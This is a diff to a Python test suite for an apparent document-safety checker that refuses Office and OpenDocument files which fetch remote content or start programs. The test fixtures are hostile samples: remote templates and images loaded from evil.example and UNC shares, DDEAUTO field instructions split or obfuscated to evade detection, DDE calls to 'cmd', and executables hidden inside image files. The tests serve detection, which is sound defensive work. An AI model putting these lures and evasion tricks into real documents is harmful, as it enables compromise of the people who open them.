@@ -6,8 +6,9 @@ from collections.abc import Mapping
 
 import pytest
 
-from goodword.core import active_office
-from goodword.core.active_office import Elsewhere, Programs, Unreadable, check
+from goodword.core import active_office, active_xml
+from goodword.core.active_office import check
+from goodword.core.active_xml import Elsewhere, Programs, Unreadable
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100
 RELATION = (
@@ -24,6 +25,27 @@ def archive(files: Mapping[str, bytes | str]) -> bytes:
         for name, content in files.items():
             whole.writestr(name, content)
     return made.getvalue()
+
+
+def odt(content: str = "", **more: str) -> bytes:
+    """Of OpenDocument, with that in its body."""
+    parts = {
+        f"{name}.xml": f"<office>{inner}</office>" for name, inner in {"content": content, **more}.items()
+    }
+    return archive(
+        {"mimetype": "application/vnd.oasis.opendocument.text", "Pictures/1.png": b"\x89PNG", **parts}
+    )
+
+
+def field(*pieces: str, result: str = "") -> dict[str, bytes | str]:
+    """A field of Word whose instruction lies in several runs."""
+    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
+    runs = "".join(
+        piece if piece.startswith("<") else f"<w:r><w:rPr/><w:instrText>{piece}</w:instrText></w:r>"
+        for piece in pieces
+    )
+    whole = mark.format("begin") + runs + mark.format("separate") + result + mark.format("end")
+    return {"word/document.xml": f"<w:body><w:p>{whole}</w:p></w:body>"}
 
 
 def docx(more: Mapping[str, bytes | str] | None = None, *, types: str = "") -> bytes:
@@ -51,6 +73,23 @@ def relation(kind: str, target: str = "https://example.com", mode: str = EXTERNA
         docx(relation("hyperlink", "mailto:ada@mail.example")),
         docx(relation("image", "media/image1.png", "")),
         docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": docx()}),
+        docx(relation("attachedTemplate", "file:///C:\\Users\\Ada\\Templates\\CV.dotx")),
+        docx(relation("attachedTemplate", "file:///Users/ada/Library/Group%20Containers/CV.dotx")),
+        docx({"word/media/image1.emz": b"\x1f\x8b\x08drawing"}),
+        docx(
+            {
+                "word/media/image1.svg": '<!DOCTYPE svg [<!ENTITY a "b">]><svg><image href="data:image/png,x"/></svg>'
+            }
+        ),
+        docx({"xl/worksheets/sheet1.xml": "<s><f>SUM('Image (2)'!A1)&amp;\"call (us)\"</f><v>1</v></s>"}),
+        docx(
+            {
+                "word/vmlDrawing1.vml": '<x><v:shape href="https://example.com/"/><v:imagedata o:href="cid:1"/></x>'
+            }
+        ),
+        docx({"customXml/item1.xml": '<item href="https://example.com/"/>'}),
+        docx({"ppt/slides/slide1.xml": '<s><a:hlinkClick r:id="rId1"/><a:hlinkMouseOver r:id=""/></s>'}),
+        docx({"xl/connections.xml": '<connections><connection id="1"/></connections>'}),
         archive({"mimetype": "x", "content.xml": "<office/>", "Configurations2/accelerator/current.xml": ""}),
         archive(
             {"content.xml": "<office/>", "Object 1/content.xml": "<chart/>", "META-INF/manifest.xml": "<m/>"}
@@ -85,7 +124,7 @@ def test_what_people_write_is_taken(content: bytes) -> None:
             "content.xml": '<e xlink:href="vnd.sun.star.script:LibreLogo|x.py$run?language=Python&amp;location=share"/>'
         },
         {"styles.xml": '<e xlink:href="vnd.sun.star.script:x"/>'.encode("utf-16")},
-        {"content.xml": "<a/>" * 400_000 + "vnd.sun.star.script:x"},
+        {"content.xml": "<o>" + "<a/>" * 400_000 + '<e xlink:href="vnd.sun.star.script:x"/></o>'},
         relation("oleObject", "embeddings/oleObject1.bin", ""),
         relation("vbaProject", "vbaProject.bin", ""),
         relation("aFChunk", "c.rtf", ""),
@@ -119,7 +158,16 @@ def test_content_types_of_programs_are_refused(kind: str) -> None:
     "more",
     [
         relation("attachedTemplate", "https://evil.example/t.dotm"),
-        relation("attachedTemplate", "file:///C:/t.dotm", ' TargetMode="external "'),
+        relation("attachedTemplate", "http://evil.example/t.dotm", ' TargetMode="external "'),
+        *(
+            relation("attachedTemplate", target)
+            for target in ("\\\\evil\\t.dotm", "//evil/t.dotm", "file://evil/t.dotm", "file:////evil/t.dotm")
+        ),
+        *(
+            relation("attachedTemplate", target)
+            for target in ("file:///%5C%5Cevil/t.dotm", "/\\evil\\t.dotm")
+        ),
+        relation("image", "file:///C:/x.png"),
         relation("image", "\\\\evil.example\\share\\x.png"),
         relation("frame"),
         relation("externalLinkPath"),
@@ -133,6 +181,191 @@ def test_content_types_of_programs_are_refused(kind: str) -> None:
 def test_what_is_loaded_from_elsewhere_is_refused(more: dict[str, bytes | str]) -> None:
     with pytest.raises(Elsewhere):
         check(docx(more))
+
+
+INNER = (
+    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
+    '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>7</w:t></w:r>'
+    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+)
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        field(" PAGE ", result="<w:r><w:t>DDE</w:t></w:r>"),
+        field(' HYPERLINK "https://example.com/dde" '),
+        field(" TOC ", '\\o "1-3"', result=INNER),
+        field(" = ", INNER, " - 1"),
+        field("MERGEFIELD LINK"),
+        field(),
+        {"word/document.xml": '<w:p><w:fldSimple w:instr=" DATE "/><w:t>DDEAUTO</w:t></w:p>'},
+    ],
+)
+def test_fields_of_word_that_only_compute_are_taken(more: dict[str, bytes | str]) -> None:
+    check(docx(more))
+
+
+@pytest.mark.parametrize(
+    ("more", "problem"),
+    [
+        (field(' INCLUDEPICTURE "http://evil.example/p.png" \\d'), Elsewhere),
+        (field("includetext", ' "\\\\evil\\t.docx"'), Elsewhere),
+        (field("IN", "CLUDE", "PICTURE", ' "http://evil.example/"'), Elsewhere),
+        (field('LINK Excel.Sheet.12 "C:\\x.xlsx"'), Elsewhere),
+        (field("DATABASE \\d x"), Elsewhere),
+        (field("RD x.docx"), Elsewhere),
+        (field(" D", "DE", "AUTO ", 'c:\\x "y"'), Programs),
+        (field("D", "<w:r><w:t>DE</w:t></w:r>", " x"), Programs),
+        (field("\u200b", "DDE"), Programs),
+        (field("DD", INNER, "E"), Programs),
+        (field("IF 1 = 1 ", str(field("DDEAUTO")["word/document.xml"])), Programs),
+        (field(INNER, " c:\\x"), Unreadable),
+        ({"word/header1.xml": '<h><w:fldSimple w:instr="&#68;DE x"/></h>'}, Programs),
+        (
+            {"word/document.xml": "<w:p><w:instrText>DD</w:instrText><w:instrText>EAUTO</w:instrText></w:p>"},
+            Programs,
+        ),
+        ({"word/document.xml": "<w:p><w:instrText>D<![CDATA[D]]>E<!-- --></w:instrText></w:p>"}, Programs),
+        (
+            {
+                "word/document.xml": '<w:b><w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText></w:p>'
+                '<w:p><w:instrText>E</w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:b>'
+            },
+            Programs,
+        ),
+        (
+            {
+                "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
+            },
+            Programs,
+        ),
+        ({"xl/externalLinks/externalLink1.xml": "<externalLink><oleLink/></externalLink>"}, Elsewhere),
+        ({"xl/connections.xml": '<c><connection refreshOnLoad="1"/></c>'}, Elsewhere),
+        (
+            {"xl/connections.xml": '<c><connection><webPr url="http://evil.example/"/></connection></c>'},
+            Elsewhere,
+        ),
+        (
+            {"xl/worksheets/sheet1.xml": '<s><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></s>'},
+            Elsewhere,
+        ),
+        ({"ppt/slides/slide1.xml": '<a:hlinkClick r:id="r" action="ppaction://program"/>'}, Programs),
+        ({"ppt/slides/slide1.xml": '<a:hlinkMouseOver r:id="r"/>'}, Elsewhere),
+        ({"word/vmlDrawing1.vml": '<v:fill src="http://evil.example/x.png"/>'}, Elsewhere),
+        ({"word/media/image1.svg": '<svg><image xlink:href="http://evil.example/x.png"/></svg>'}, Elsewhere),
+    ],
+)
+def test_what_office_fetches_or_starts_is_refused(
+    more: dict[str, bytes | str], problem: type[Exception]
+) -> None:
+    with pytest.raises(problem):
+        check(docx(more))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        odt('<text:a xlink:href="https://example.com/"/><draw:image xlink:href="Pictures/1.png"/>'),
+        odt('<draw:object xlink:href="./Object 1"/><chart:chart xlink:href="."/><text:script-free/>'),
+        odt('<form:form xlink:href=""/><draw:area-rectangle xlink:href="https://example.com/"/>'),
+        odt('<presentation:event-listener presentation:action="show" xlink:href="#page2"/>'),
+        odt(meta='<meta:template xlink:href="file:///usr/share/templates/CV.ott"/>'),
+        odt(meta='<meta:template xlink:href="../../Templates/CV.ott"/><meta:auto-reload/>'),
+        odt("<table:table-cell table:formula=\"of:=SUM([$'Image (2)'.A1])\"/>"),
+        archive({"mimetype": "x", "Object 1/content.xml": '<chart:chart xlink:href=".."/>'}),
+    ],
+)
+def test_open_documents_that_hold_all_of_it_are_taken(content: bytes) -> None:
+    check(content)
+
+
+@pytest.mark.parametrize(
+    "element", ["draw:image", "draw:object", "draw:floating-frame", "text:section-source"]
+)
+@pytest.mark.parametrize(
+    "target",
+    ["http://evil.example/x", "HTTPS://evil.example/x", "//evil/x", "\\\\evil\\x", "../x", "file:///C:/x"],
+)
+def test_open_documents_that_load_from_elsewhere_are_refused(element: str, target: str) -> None:
+    with pytest.raises(Elsewhere):
+        check(odt(f'<{element} xlink:href="{target}"/>'))
+    with pytest.raises(Elsewhere):
+        check(odt(styles=f'<q:{element.partition(":")[2]} z:href=" {target}"/>'))
+
+
+@pytest.mark.parametrize(
+    ("content", "problem"),
+    [
+        (odt(meta='<meta:template xlink:href="http://evil.example/t.ott"/>'), Elsewhere),
+        (odt(meta='<meta:template xlink:href="file://evil/t.ott"/>'), Elsewhere),
+        (odt(meta='<meta:auto-reload xlink:href="http://evil.example/"/>'), Elsewhere),
+        (odt('<c table:formula="of:=WEBSERVICE(&quot;http://evil.example/&quot;)"/>'), Elsewhere),
+        (odt("<c table:formula=\"of:=['file:///C:/x.ods'#$A.A1]\"/>"), Elsewhere),
+        (odt('<c table:formula="of:=DDE(&quot;cmd&quot;;1;2)"/>'), Programs),
+        (odt('<text:dde-connection-decl office:dde-application="cmd"/>'), Programs),
+        (odt('<presentation:event-listener presentation:action="execute" xlink:href="x"/>'), Programs),
+        (odt('<script:event-listener script:macro-name="x"/>'), Programs),
+        (odt('<text:a xlink:href="vnd.sun.star.script:x"/>'), Programs),
+        (odt("<office:script/>"), Programs),
+    ],
+)
+def test_open_documents_that_start_or_fetch_otherwise_are_refused(
+    content: bytes, problem: type[Exception]
+) -> None:
+    with pytest.raises(problem):
+        check(content)
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        OLE,
+        b"MZ\x90\x00This program cannot be run in DOS mode.\r\n$PE\x00\x00\x64\x86",
+        b"\x7fELF\x02\x01\x01",
+        b"Rar!\x1a\x07\x00",
+        b"7z\xbc\xaf\x27\x1c",
+        b"MSCF\x00\x00\x00\x00",
+        archive({"a.txt": b"a"}),
+    ],
+)
+@pytest.mark.parametrize("before", [b"\x00", b"\x89PNG\r\n" + b"x" * 2_097_140, b"\x00" * 1_048_575])
+def test_programs_and_archives_are_found_wherever_they_begin(inside: bytes, before: bytes) -> None:
+    with pytest.raises(Programs):
+        check(docx({"word/media/image2.png": before + inside}))
+
+
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"word/media/a.bin": archive({"a.txt": b"a"})},
+        {"word/media/a.docx": archive({"a.txt": b"a"})},
+        {"word/media/a.zip": b"x"},
+        {"word/media/a.bin": b"\x1f\x8b\x08x"},
+        {"word/media/a.bin": b"\x00" * 257 + b"ustar"},
+    ],
+)
+def test_archives_in_documents_are_refused(more: dict[str, bytes | str]) -> None:
+    with pytest.raises(Programs):
+        check(docx(more))
+
+
+def test_documents_in_documents_share_one_bound(monkeypatch: pytest.MonkeyPatch) -> None:
+    many = docx({f"word/embeddings/{n}.docx": docx({"a.bin": b"\x00" * 100_000}) for n in range(20)})
+    check(many)
+    monkeypatch.setattr(active_office, "MOST_UNPACKED", 1_000_000)
+    with pytest.raises(Unreadable):
+        check(many)
+    monkeypatch.undo()
+    monkeypatch.setattr(active_xml, "MOST_ELEMENTS", 50)
+    with pytest.raises(Unreadable):
+        check(docx({f"word/embeddings/{n}.docx": docx() for n in range(60)}))
+
+
+@pytest.mark.parametrize("part", ["word/document.xml", "word/_rels/x.rels", "[content_types].xml"])
+def test_elements_in_elements_have_an_end(part: str) -> None:
+    with pytest.raises(Unreadable):
+        check(archive({part: "<a>" * 3_000 + "</a>" * 3_000}))
 
 
 def test_what_cannot_be_looked_into_is_refused() -> None:
